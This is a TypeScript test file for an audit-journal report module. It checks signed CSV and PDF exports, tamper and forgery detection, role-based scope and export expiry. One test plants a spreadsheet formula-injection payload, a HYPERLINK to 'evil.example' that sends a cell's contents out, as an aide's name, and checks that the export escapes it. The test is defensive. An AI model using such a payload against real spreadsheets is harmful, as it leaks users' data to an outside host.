import { writeFileSync } from 'node:fs';
import { Writable } from 'node:stream';

import { MembershipRole } from '@relais/aides';
import { AuditAction } from '@relais/audit';
import { DomainException } from '@relais/exceptions';
import { KeyStore } from '@relais/signing';
import { createTestEnvironment, readPdf, type TestEnvironment } from '@relais/testing';
import { parse } from 'csv-parse/sync';

import {
  ReportExports,
  ReportFormat,
  type ReportRequester,
  ReportScope,
  ReportVerifier,
  ReportWriter,
  verificationText,
} from '../src/index.js';
import { aroundToday, memoryTarget, reportsApp } from './reports-harness.js';

describe('audit reports: CSV export, verification, scope and expiry (real PostgreSQL and Redis)', () => {
  let env: TestEnvironment;
  let app: Awaited<ReturnType<typeof reportsApp>>;
  let supervisor: ReportRequester;
  const period = aroundToday();

  const csvOf = async (requester: ReportRequester, request: Record<string, string> = {}) => {
    const scoped = await app.moduleRef.get(ReportScope).resolve(requester, { ...period, ...request });
    const { target, bytes } = memoryTarget();
    const written = await app.moduleRef.get(ReportWriter).write(
      {
        ...scoped,
        format: ReportFormat.Csv,
        fileName: 'journal.csv',
        generatedBy: { type: 'aide', id: null, name: 'Test' },
      },
      target,
    );
    return { ...written, csv: bytes() };
  };
  const verify = (file: Buffer, signature: string) => app.moduleRef.get(ReportVerifier).verify(file, signature);
  const rows = (csv: Buffer) => csv.toString('utf8').slice(1).trimEnd().split('\r\n');

  beforeAll(async () => {
    env = await createTestEnvironment();
    app = await reportsApp();
    const { a, b, colleague } = app;
    supervisor = { type: 'aide', aideId: a.aideId, structureId: a.structureId, role: MembershipRole.Supervisor };
    // Given the two structures' entries interleaved in the one journal, checkpoints every 4 entries
    await app.record([
      { structureId: a.structureId, aideId: a.aideId, area: 'papers', citizen: true },
      { structureId: b.structureId, aideId: b.aideId },
      { structureId: a.structureId, aideId: colleague, area: 'money', citizen: true },
      { structureId: b.structureId, aideId: b.aideId },
      { structureId: b.structureId, aideId: b.aideId },
      { structureId: a.structureId, aideId: a.aideId, action: AuditAction.AttestationDownloaded, citizen: true },
      { structureId: a.structureId, aideId: colleague, area: 'papers', citizen: true },
      { structureId: b.structureId, aideId: b.aideId },
      { structureId: a.structureId, aideId: a.aideId, area: 'money' },
      { structureId: b.structureId, aideId: b.aideId },
      { structureId: b.structureId, aideId: b.aideId },
      { structureId: b.structureId, aideId: b.aideId },
    ]);
    await app.seal();
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await env?.dispose();
  });

  describe('CSV and its verification', () => {
    it('given a supervisor, when they export their structure, then the CSV verifies as genuine and complete between signed checkpoints', async () => {
      const { csv, signature, manifest } = await csvOf(supervisor);

      const result = await verify(csv, signature);

      expect(result.genuine).toBe(true);
      expect(result.complete).toBe(true);
      expect(result.entries).toBe(5);
      expect(manifest.count).toBe(5);
      expect(result.checkpoints.length).toBeGreaterThan(0);
      expect(result.checkpoints.every((checkpoint) => checkpoint.valid)).toBe(true);
      expect(verificationText(result).lines[0]).toMatch(/^Rapport authentique et complet/);
      // UTF-8 BOM, `;`, one row per entry plus rows saying where the chain runs through other entries
      expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const lines = rows(csv);
      expect(lines[0].split(';')).toContain('hash_precedent');
      expect(lines.filter((line) => line.includes('hors de cet export')).length).toBeGreaterThan(0);
      expect(csv.toString()).toContain('Connexion à un service public pour l’usager');
      expect(csv.toString()).not.toContain(app.b.aideId);
    });

    it('given an aide named like a spreadsheet formula, when exported, then the name is a text cell and the CSV still verifies', async () => {
      const formula = '=HYPERLINK("http://evil.example/?"&A1;"Voir")';
      await app.db.query('UPDATE aides SET given_name = $1 WHERE id = $2', [formula, app.colleague]);
      try {
        const { csv, signature } = await csvOf(supervisor);

        const records = parse(csv, { bom: true, delimiter: ';' }) as string[][];
        const actor = records[0].indexOf('acteur');
        const theirs = records.filter((record) => record[actor - 1] === app.colleague);
        expect(theirs.length).toBe(2);
        for (const record of theirs) expect(record[actor]).toBe(`'${formula} Benaïssa`);
        const result = await verify(csv, signature);
        expect(result.genuine && result.complete).toBe(true);
      } finally {
        await app.db.query("UPDATE aides SET given_name = 'Karim' WHERE id = $1", [app.colleague]);
      }
    });

    it('given one cell changed in a spreadsheet, when verified, then the file is refused and the row is named', async () => {
      const { csv, signature } = await csvOf(supervisor);
      const lines = rows(csv);
      const row = lines.findIndex((line) => line.includes('"{""area"":""money""'));
      lines[row] = lines[row].replace('""money""', '""papers""');
      const changed = Buffer.from('\ufeff' + lines.join('\r\n') + '\r\n');

      const result = await verify(changed, signature);

      expect(result.genuine).toBe(false);
      expect(result.fileUnchanged).toBe(false);
      expect(result.problem).toEqual({ kind: 'altered', row: row + 1, seq: lines[row].split(';')[0] });
      expect(verificationText(result).lines.join(' ')).toContain(`La ligne ${row + 1} (entrée n° `);
    });

    it('given a row deleted, when verified, then the gap is named with the missing entry', async () => {
      const { csv, signature } = await csvOf(supervisor);
      const lines = rows(csv);
      const row = lines.findIndex((line, index) => index > 0 && !line.includes('hors de cet export'));
      const seq = lines[row].split(';')[0];
      lines.splice(row, 1);

      const result = await verify(Buffer.from('\ufeff' + lines.join('\r\n') + '\r\n'), signature);

      expect(result.genuine).toBe(false);
      expect(result.complete).toBe(false);
      expect(result.problem).toMatchObject({ kind: 'missing', row: row + 1, fromSeq: seq, toSeq: seq });
      expect(verificationText(result).lines.join(' ')).toContain(`Il manque l’entrée n° ${seq}`);
    });

    it('given the platform key rotated since the export, when verified, then the report is still genuine', async () => {
      const { csv, signature } = await csvOf(supervisor);
      const before = (await app.moduleRef.get(KeyStore).activeKey()).kid;

      await app.moduleRef.get(KeyStore).rotate();
      const result = await verify(csv, signature);

      expect((await app.moduleRef.get(KeyStore).activeKey()).kid).not.toBe(before);
      expect(result.genuine).toBe(true);
      expect(result.complete).toBe(true);
      expect(result.kid).toBe(before);
    });

    it('given a signature file that was tampered with, when verified, then the signature is refused', async () => {
      const { csv, signature } = await csvOf(supervisor);
      const [header, payload, sig] = signature.split('.');
      const forged = `${header}.${payload}.${sig.startsWith('A') ? 'B' : 'A'}${sig.slice(1)}`;

      const result = await verify(csv, forged);

      expect(result.genuine).toBe(false);
      expect(result.signatureProblem).toBe('bad_signature');
      expect(verificationText(result).ok).toBe(false);
    });
  });

  describe('PDF', () => {
    it('given a supervisor, the PDF has a cover, a summary, the entries with page numbers, and the anchors and signature', async () => {
      const scoped = await app.moduleRef.get(ReportScope).resolve(supervisor, period);
      const { target, bytes } = memoryTarget();
      const written = await app.moduleRef.get(ReportWriter).write(
        {
          ...scoped,
          format: ReportFormat.Pdf,
          fileName: 'journal.pdf',
          generatedBy: { type: 'aide', id: app.a.aideId, name: 'Lucie Martin' },
        },
        target,
      );
      const pdf = bytes();
      if (process.env.REPORT_PDF_SAMPLE) writeFileSync(process.env.REPORT_PDF_SAMPLE, pdf);

      const content = await readPdf(pdf);

      expect(content.pages.length).toBeGreaterThanOrEqual(4);
      expect(content.text).toContain('Journal des actions');
      expect(content.text).toContain('France Services');
      expect(content.text).toContain('par Lucie Martin');
      expect(content.text).toContain('Par type d’action');
      expect(content.text).toContain('Par aidant');
      expect(content.text).toContain('Karim Benaïssa');
      expect(content.text).toContain('Connexion à un service public pour l’usager');
      expect(content.text).toContain('Angela Dubois');
      expect(content.text).toContain(`Page 1 / ${content.pages.length}`);
      expect(content.text).toContain('Annexe : preuve d’intégrité');
      expect(content.text).toContain('point de contrôle signé');
      expect(content.text).not.toContain('delegation.logged_in');
      expect(written.manifest.count).toBe(5);
      const result = await verify(pdf, written.signature);
      expect(result.genuine).toBe(true);
      expect(result.complete).toBeNull();
      const changed = Buffer.from(pdf);
      changed[changed.length - 10] ^= 1;
      expect((await verify(changed, written.signature)).genuine).toBe(false);
    });
  });

  describe('scope', () => {
    it('given a supervisor naming an aide of another structure, then it is refused as not found', async () => {
      await expect(
        app.moduleRef.get(ReportScope).resolve(supervisor, { ...period, aideId: app.b.aideId }),
      ).rejects.toMatchObject({ status: 404 });
    });

    it('given a supervisor naming a citizen who gave the structure no mandate, then it is refused as not found', async () => {
      const other = {
        type: 'aide',
        aideId: app.b.aideId,
        structureId: app.b.structureId,
        role: MembershipRole.Supervisor,
      } as const;
      await expect(
        app.moduleRef.get(ReportScope).resolve(other, { ...period, citizenId: app.a.citizenId }),
      ).rejects.toMatchObject({
        status: 404,
      });
    });

    it('given an aide, when they name another aide, then it is forbidden; without naming, only their own actions are exported', async () => {
      const aide: ReportRequester = {
        type: 'aide',
        aideId: app.colleague,
        structureId: app.a.structureId,
        role: MembershipRole.Aide,
      };
      const refused = app.moduleRef.get(ReportScope).resolve(aide, { ...period, aideId: app.a.aideId });
      await expect(refused).rejects.toBeInstanceOf(DomainException);
      await expect(refused).rejects.toMatchObject({ status: 403 });

      const { csv, signature, manifest } = await csvOf(aide);

      expect(manifest.count).toBe(2);
      const entries = rows(csv)
        .slice(1)
        .filter((line) => !line.includes('hors de cet export'));
      expect(entries).toHaveLength(2);
      for (const line of entries) expect(line.split(';')[7]).toBe(app.colleague);
      expect((await verify(csv, signature)).complete).toBe(true);
    });

    it('given bad dates, then the form is told which field', async () => {
      await expect(
        app.moduleRef.get(ReportScope).resolve(supervisor, { from: '2026-13-45', to: period.to }),
      ).rejects.toMatchObject({ status: 400 });
      await expect(
        app.moduleRef.get(ReportScope).resolve(supervisor, { from: period.to, to: period.from }),
      ).rejects.toMatchObject({ fields: [{ field: 'au' }] });
    });
  });

  describe('stored exports', () => {
    it('given an export done, when it expires, then nobody can download it and the worker job deletes it', async () => {
      const exports = app.moduleRef.get(ReportExports);
      const id = await exports.request(supervisor, period, ReportFormat.Csv);
      await exports.generate(id);
      expect(await exports.find(supervisor, id)).toMatchObject({ status: 'done', total: 5, percent: 100 });
      const other = {
        type: 'aide',
        aideId: app.b.aideId,
        structureId: app.b.structureId,
        role: MembershipRole.Supervisor,
      } as const;
      await expect(exports.find(other, id)).rejects.toMatchObject({ status: 404 });
      const journaled = await app.db.query(`SELECT details FROM audit_outbox WHERE action = 'report.export_requested'`);
      expect(journaled.map((row: { details: { exportId: string } }) => row.details.exportId)).toContain(id);

      await app.db.query(`UPDATE report_exports SET expires_at = now() - interval '1 second' WHERE id = $1`, [id]);

      await expect(exports.open(supervisor, id, 'file')).rejects.toMatchObject({ status: 404 });
      expect(await exports.deleteExpired()).toBeGreaterThanOrEqual(1);
      const left = await app.db.query('SELECT count(*)::int AS n FROM report_export_chunks WHERE export_id = $1', [id]);
      expect(left[0].n).toBe(0);
    });
  });

  describe('a PDF over several pages', () => {
    it('given 80 entries, the table runs over several pages, each with its header, and every page says « Page X / Y »', async () => {
      await app.record(Array.from({ length: 80 }, () => ({ structureId: app.b.structureId, aideId: app.b.aideId })));
      await app.seal();
      const operator: ReportRequester = { type: 'operator', aideId: null };
      const scoped = await app.moduleRef
        .get(ReportScope)
        .resolve(operator, { ...period, siret: await siretOf(app.b.structureId) });
      const { target, bytes } = memoryTarget();
      await app.moduleRef.get(ReportWriter).write(
        {
          ...scoped,
          format: ReportFormat.Pdf,
          fileName: 'b.pdf',
          generatedBy: { type: 'operator', id: null, name: 'Opérateur' },
        },
        target,
      );

      const content = await readPdf(bytes());

      const pages = content.pages.length;
      expect(pages).toBeGreaterThanOrEqual(6);
      content.pages.forEach((page, index) =>
        expect(page.replace(/\s+/g, ' ')).toContain(`Page ${index + 1} / ${pages}`),
      );
      const tablePages = content.pages.slice(2, -1);
      expect(tablePages.length).toBeGreaterThanOrEqual(3);
      for (const page of tablePages) expect(page).toMatch(/N°\s*Date \(Paris\)\s*Action/);
      expect(content.pages.at(-1)).toContain('Annexe');
    });
  });

  describe('a PDF whose target fails', () => {
    it('given the target refusing its first write, when a PDF is written, then the export fails with that error and the next PDF is written whole', async () => {
      const scoped = await app.moduleRef.get(ReportScope).resolve(supervisor, period);
      const job = {
        ...scoped,
        format: ReportFormat.Pdf,
        fileName: 'a.pdf',
        generatedBy: { type: 'aide', id: null, name: 'Test' },
      };
      const broken = new Writable({ write: (_chunk, _encoding, done) => done(new Error('disk full')) });
      broken.on('error', () => undefined);

      await expect(app.moduleRef.get(ReportWriter).write(job, broken)).rejects.toThrow('disk full');

      const { target, bytes } = memoryTarget();
      const written = await app.moduleRef.get(ReportWriter).write(job, target);
      expect(written.manifest.count).toBeGreaterThan(0);
      expect((await verify(bytes(), written.signature)).genuine).toBe(true);
    });
  });

  const siretOf = async (structureId: string) =>
    (await app.db.query('SELECT siret FROM structures WHERE id = $1', [structureId]))[0].siret as string;
});
